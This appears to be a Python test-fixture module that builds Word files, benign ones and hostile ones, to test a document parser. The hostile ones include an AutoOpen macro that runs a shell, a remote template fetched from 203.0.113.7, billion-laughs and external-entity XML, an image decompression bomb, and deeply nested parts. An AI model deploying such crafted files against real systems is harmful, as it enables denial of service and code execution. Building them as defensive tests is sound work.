"""Word files, made with python-docx."""

from io import BytesIO
from typing import Any

from docx import Document
from docx.oxml import parse_xml

from tests.documents.made import packages
from tests.documents.made.prose import JOINING, MILLS, YEARS

_BODY = "word/document.xml"
_W = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_WORD = b"spichlerz"


def article() -> bytes:
    """Headings, a list with an item below another, a table, and a head and foot on every page."""
    made = Document()
    made.add_heading("Młyny Doliny Żółtej", 0)
    made.add_paragraph(MILLS)
    made.add_heading("Członkowie", 1)
    made.add_paragraph("młyny żytnie", style="List Bullet")
    made.add_paragraph("w gminie Żółte", style="List Bullet 2")
    made.add_paragraph("piekarnie", style="List Bullet")
    made.add_heading("Lata", 1)
    table = made.add_table(3, 2)
    for row, cells in enumerate((("Rok", "Członków"), ("2019", "12"), ("2023", "40"))):
        for column, text in enumerate(cells):
            table.cell(row, column).text = text
    made.sections[0].header.paragraphs[0].text = "Kwartalnik Młynarski"
    made.sections[0].footer.paragraphs[0].text = "Wszelkie prawa zastrzeżone"
    return _saved(made)


def text_box() -> bytes:
    made = Document()
    made.add_paragraph(MILLS)
    made.add_paragraph()._p.append(
        parse_xml(
            f"<w:r {_W}><w:pict><v:shape xmlns:v='urn:schemas-microsoft-com:vml'><v:textbox><w:txbxContent>"
            "<w:p><w:r><w:t>Ramka: koordynatorem jest Spółdzielnia Wiatrak.</w:t></w:r></w:p>"
            "</w:txbxContent></v:textbox></v:shape></w:pict></w:r>"
        )
    )
    return _saved(made)


def footnote() -> bytes:
    made = Document()
    paragraph = made.add_paragraph(MILLS)
    paragraph._p.append(parse_xml(f"<w:r {_W}><w:footnoteReference w:id='2'/></w:r>"))
    held = packages.parts(_saved(made))
    notes = (
        f"<w:footnotes {_W}><w:footnote w:id='2'><w:p><w:r><w:t>Dane rady klastra z 2023 roku.</w:t></w:r></w:p>"
        "</w:footnote></w:footnotes>"
    )
    kind = b"application/vnd.openxmlformats-officedocument.wordprocessingml.footnotes+xml"
    relation = b"http://schemas.openxmlformats.org/officeDocument/2006/relationships/footnotes"
    more = {
        "word/footnotes.xml": notes.encode(),
        "[Content_Types].xml": held["[Content_Types].xml"].replace(
            b"</Types>", b'<Override PartName="/word/footnotes.xml" ContentType="%s"/></Types>' % kind
        ),
        "word/_rels/document.xml.rels": held["word/_rels/document.xml.rels"].replace(
            b"</Relationships>",
            b'<Relationship Id="rIdF" Type="%s" Target="footnotes.xml"/></Relationships>' % relation,
        ),
    }
    return packages.package(held | more)


def deleted_text() -> bytes:
    """A sentence struck out and one put in, with changes still marked."""
    made = Document()
    made.add_paragraph(MILLS)
    paragraph = made.add_paragraph()
    for tag, inner, text in (("del", "delText", "Skreślone zdanie."), ("ins", "t", "Dopisane zdanie.")):
        run = f"<w:r><w:{inner}>{text}</w:{inner}></w:r>"
        paragraph._p.append(parse_xml(f'<w:{tag} {_W} w:id="1" w:author="x">{run}</w:{tag}>'))
    return _saved(made)


def macros() -> bytes:
    """A document with a program in it, as .docm files are."""
    held = packages.parts(_plain())
    main = b"application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
    with_macros = b"application/vnd.ms-word.document.macroEnabled.main+xml"
    assert main in held["[Content_Types].xml"]
    types = (
        held["[Content_Types].xml"]
        .replace(main, with_macros)
        .replace(
            b"<Override",
            b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/><Override',
            1,
        )
    )
    relations = held["word/_rels/document.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdV" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject" '
        b'Target="vbaProject.bin"/></Relationships>',
    )
    more = {
        "[Content_Types].xml": types,
        "word/_rels/document.xml.rels": relations,
        "word/vbaProject.bin": packages.ole("VBA", "dir") + b'Sub AutoOpen() Shell "calc" End Sub',
    }
    return packages.package(held | more)


def template() -> bytes:
    """A document saved for others to be made from."""
    kind = b"wordprocessingml.document.main+xml"
    return packages.replaced(_plain(), "[Content_Types].xml", kind, b"wordprocessingml.template.main+xml")


def template_from_afar() -> bytes:
    """It would fetch its template, and with it a program, from another machine."""
    held = packages.parts(_plain())
    relation = (
        b'<Relationship Id="rIdT" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
        b'attachedTemplate" Target="http://203.0.113.7/x.dotm" TargetMode="External"/></Relationships>'
    )
    name = "word/_rels/document.xml.rels"
    return packages.package(held | {name: held[name].replace(b"</Relationships>", relation)})


def image_bomb() -> bytes:
    made = Document()
    made.add_paragraph(MILLS)
    made.add_picture(BytesIO(packages.picture(8)), width=1_000_000)
    return packages.package(
        packages.parts(_saved(made)) | {"word/media/image1.png": packages.picture(20_000)}
    )


def laughs() -> bytes:
    return packages.with_doctype(_plain(), _BODY, packages.BILLION_LAUGHS, _WORD, packages.LAUGH)


def laughs_in_properties() -> bytes:
    """The entities stand in the title that the file gives itself."""
    return packages.with_doctype(
        _plain(), "docProps/core.xml", packages.BILLION_LAUGHS, b"Tytul", packages.LAUGH
    )


def external() -> bytes:
    return packages.with_doctype(_plain(), _BODY, packages.EXTERNAL, _WORD, b"&a;")


def external_style() -> bytes:
    """The entity stands among the styles, where nobody looks for text."""
    return packages.with_doctype(_plain(), "word/styles.xml", packages.EXTERNAL, b"Normal", b"&a;")


def swollen() -> bytes:
    return packages.swollen(_plain(), 500)


def overlapping() -> bytes:
    return packages.overlapping(_plain(), _BODY)


def many_parts() -> bytes:
    """A package of thirty thousand empty parts."""
    held = packages.parts(_plain())
    return packages.package(held | {f"customXml/{at}.xml": b"" for at in range(30_000)})


def in_itself() -> bytes:
    """A document with a document of the kind in it, and so on."""
    content = _plain()
    for _ in range(20):
        content = packages.package(packages.parts(_plain()) | {"word/embeddings/inner.docx": content})
    return content


def password() -> bytes:
    return packages.ole("EncryptionInfo", "EncryptedPackage")


def truncated() -> bytes:
    return _plain()[:9_000]


def broken_part() -> bytes:
    """Its text's packed bytes were overwritten."""
    content = bytearray(_plain())
    at = content.index(_BODY.encode()) + len(_BODY) + 40
    content[at : at + 60] = bytes(60)
    return bytes(content)


def nested_lists() -> bytes:
    """A list said to be a thousand deep."""
    made = Document()
    made.add_paragraph(MILLS)
    for level in range(1_000):
        item = made.add_paragraph(f"poziom {level}")
        item._p.get_or_add_pPr().append(
            parse_xml(f'<w:numPr {_W}><w:ilvl w:val="{level}"/><w:numId w:val="1"/></w:numPr>')
        )
    return _saved(made)


def nested_tables() -> bytes:
    """Tables in tables, four hundred deep."""
    made = Document()
    made.add_paragraph(MILLS)
    inner = "<w:p><w:r><w:t>Na dnie stoi młyn.</w:t></w:r></w:p>"
    for _ in range(400):
        inner = f"<w:tbl><w:tblPr/><w:tblGrid><w:gridCol/></w:tblGrid><w:tr><w:tc>{inner}<w:p/></w:tc></w:tr></w:tbl>"
    content = _saved(made)
    return packages.replaced(content, _BODY, b"<w:sectPr", inner.encode() + b"<w:sectPr")


def wide_table() -> bytes:
    """A cell that says it spans ten million columns."""
    made = Document()
    made.add_paragraph(YEARS)
    table = made.add_table(2, 2)
    table.cell(0, 0).text = "szeroka"
    content = _saved(made)
    return packages.replaced(content, _BODY, b"<w:tcPr>", b'<w:tcPr><w:gridSpan w:val="10000000"/>')


def style_loop() -> bytes:
    """A style that is based on itself."""
    content = _plain()
    return packages.replaced(
        content, "word/styles.xml", b'<w:name w:val="Normal"/>',
        b'<w:name w:val="Normal"/><w:basedOn w:val="Normal"/>',
    )  # fmt: skip


def _plain() -> bytes:
    made = Document()
    made.core_properties.title = "Tytul"
    made.add_heading("Młyny", 1)
    made.add_paragraph(MILLS)
    made.add_paragraph(JOINING)
    return _saved(made)


def _saved(made: Any) -> bytes:
    target = BytesIO()
    made.save(target)
    return target.getvalue()
